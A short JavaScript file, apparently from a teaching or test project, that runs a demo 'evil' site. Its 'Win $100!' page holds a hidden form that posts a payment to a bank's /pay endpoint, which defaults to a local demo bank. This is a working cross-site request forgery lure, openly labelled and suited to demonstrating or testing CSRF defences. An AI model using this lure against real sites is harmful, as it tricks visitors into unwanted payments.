import { Microdot, Response } from '@microdot/core';

/** What a site looks like that is after the money of the bank's customers. */
export const evil = new Microdot();

const bank = process.env.BANK ?? 'http://localhost:5000';

evil.get('/', () => {
  const page = `<!doctype html><html lang="en"><meta charset="utf-8"><title>Win!</title>
    <body><h1>You have been chosen</h1>
    <form method="post" action="${bank}/pay">
      <input type="hidden" name="amount" value="100"> <button>Win $100!</button>
    </form></body></html>`;
  return new Response(page, 200, { 'Content-Type': 'text/html' });
});

// Only when Node was started with this file, and not in the tests.
if (process.argv[1] === import.meta.filename) {
  await evil.run({ port: Number(process.env.PORT ?? 5001), debug: true });
}
